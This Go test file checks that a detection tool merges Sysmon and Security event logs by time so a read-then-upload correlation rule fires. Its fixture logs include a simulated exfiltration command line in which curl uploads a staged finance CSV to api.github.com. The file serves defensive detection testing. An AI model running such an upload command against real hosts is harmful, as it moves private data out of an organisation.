package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Two recordings of one host, each in time order, that interleave: the
// Sysmon log holds curl's start (10:00:00) and its connection to
// api.github.com (10:00:02), the Security log the audited read of the
// staged file in between (10:00:01). AN0895's temporal_ordered correlation
// (read, then upload by the same process) holds only in time order.
const (
	mergeSysmon = `{"EventID":1,"Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS-FIN-0142.corp.example","TimeCreated":"2026-12-02T10:00:00.000Z","Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl.exe -T finance_q3.csv https://api.github.com/x","ProcessId":"6852"}
{"EventID":3,"Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS-FIN-0142.corp.example","TimeCreated":"2026-12-02T10:00:02.000Z","Image":"C:\\Windows\\System32\\curl.exe","ProcessId":"6852","Initiated":"true","DestinationHostname":"api.github.com","DestinationPort":"443"}
`
	mergeSecurity = `{"EventID":4663,"Provider":"Microsoft-Windows-Security-Auditing","Channel":"Security","Computer":"WS-FIN-0142.corp.example","TimeCreated":"2026-12-02T10:00:01.000Z","ObjectName":"C:\\Users\\j.doe\\AppData\\Local\\Temp\\df00tech-exfil\\finance_q3.csv","AccessMask":"0x1","ProcessName":"C:\\Windows\\System32\\curl.exe","ProcessId":"0x1abc"}
`
	an0895Correlation = "9a4e6c21-7b3d-4e8f-a1d2-1567001a0897"
)

func TestSeveralEventFilesAreMergedByTime(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
		return p
	}
	sysmon, security := write("sysmon.jsonl", mergeSysmon), write("security.jsonl", mergeSecurity)
	// One file holding both, not in time order: what reading the files
	// one after the other amounted to.
	oneAfterTheOther := write("concatenated.jsonl", mergeSysmon+mergeSecurity)
	expect := write("expect.yaml", "expect:\n  workstation:\n  - rule: mitre_det0318_an0895_read_then_upload_correlation\n    fires: true\n")

	code, stdout, stderr := cli(t, "sigma", "--events", oneAfterTheOther, "--json")
	require.Equal(t, 0, code, stderr)
	assert.NotContains(t, stdout, an0895Correlation, "out of time order the upload comes before the read")
	code, _, stderr = cli(t, "validate", "--events", oneAfterTheOther, "--expect", expect)
	assert.Equal(t, 1, code, stderr)

	for _, files := range [][]string{{sysmon, security}, {security, sysmon}} {
		args := []string{"--events", files[0], "--events", files[1]}
		code, stdout, stderr := cli(t, append([]string{"sigma", "--json"}, args...)...)
		require.Equal(t, 0, code, stderr)
		assert.Contains(t, stdout, an0895Correlation, "merged by time, in either order of the files")
		// Each file's own count, in the order given.
		first := strings.Index(stderr, files[0]+": ")
		second := strings.Index(stderr, files[1]+": ")
		require.True(t, first >= 0 && second > first, stderr)
		assert.Contains(t, stderr, sysmon+": 2 event(s) read, 0 skipped (json)")
		assert.Contains(t, stderr, security+": 1 event(s) read, 0 skipped (json)")

		code, stdout, stderr = cli(t, append([]string{"validate", "--expect", expect}, args...)...)
		assert.Equal(t, 0, code, stderr)
		assert.Contains(t, stdout, "1 of 1 expectations hold")
	}
}
